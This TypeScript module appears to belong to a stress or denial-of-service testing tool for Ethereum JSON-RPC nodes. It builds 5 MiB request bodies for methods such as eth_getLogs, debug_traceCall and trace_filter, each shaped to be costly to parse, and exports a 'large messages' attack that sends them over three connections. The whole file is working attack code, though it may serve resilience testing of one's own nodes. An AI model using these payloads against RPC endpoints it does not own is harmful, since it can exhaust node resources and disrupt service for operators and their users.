import type { Attack } from "./attack.ts";
import { asMany, buildCall, createPoster } from "./attacker.ts";

const bodyBytes = 5_242_880;
const connections = 3;

/** Fills a body between `before` and `after` with numbered pieces. */
function buildBody(before: string, piece: (at: number) => string, after: string): Buffer {
  const parts: string[] = [];
  let size = before.length + after.length;
  for (let at = 0; ; at += 1) {
    const part = `${at === 0 ? "" : ","}${piece(at)}`;
    size += part.length;
    if (size > bodyBytes) break;
    parts.push(part);
  }
  return Buffer.from(before + parts.join("") + after);
}

const call = (method: string) => `{"jsonrpc":"2.0","id":1,"method":"${method}","params":`;

/** Builds messages of valid JSON, 5 MiB each, in the shapes that are most expensive to parse. */
function buildBodies(): readonly Buffer[] {
  return [
    buildBody(`${call("eth_call")}[`, () => "{}", "]}"),
    buildBody(`${call("eth_getLogs")}[{`, (at) => `"k${at}":0`, "}]}"),
    buildBody(`${call("eth_getLogs")}[{"topics":[`, () => "null", "]}]}"),
    buildBody(`${call("eth_getLogs")}[{"address":[`, (at) => `"0x${at.toString(16).padStart(40, "0")}"`, "]}]}"),
    buildBody(`${call("debug_traceTransaction")}["0x${"1".repeat(64)}",{`, (at) => `"k${at}":0`, "}]}"),
    buildBody(`${call("debug_traceCall")}[{},"latest",{"tracerConfig":{`, (at) => `"k${at}":0`, "}}]}"),
    buildBody(`${call("trace_filter")}[{`, (at) => `"k${at}":[]`, "}]}"),
    buildBody(`${call("eth_call")}[`, () => `"${String.raw`\u0000`.repeat(64)}"`, "]}"),
    buildBody(`${call("eth_feeHistory")}["0x1","latest",[`, (at) => String(at % 100), "]]}"),
    buildBody("[", (at) => buildCall(at, "eth_chainId", "[]"), "]"),
    buildBody('{"jsonrpc":"2.0","id":1,"method":"eth_chainId",', (at) => `"k${at}":0`, "}"),
  ];
}

/** Large messages, over few connections, each sent after the response to the previous one. */
export const largeMessages: Attack = {
  name: "large messages",
  what: `${connections} connections from 1 address with 5 MiB of legal JSON under one method name, one after the other`,
  attackers: connections,
  run: async (target, signal) => {
    const all = buildBodies();
    const post = createPoster(target, signal, 1);
    let sent = 0;
    await asMany(connections, signal, (connection) => post(connection, all[(sent += 1) % all.length] ?? ""));
  },
};
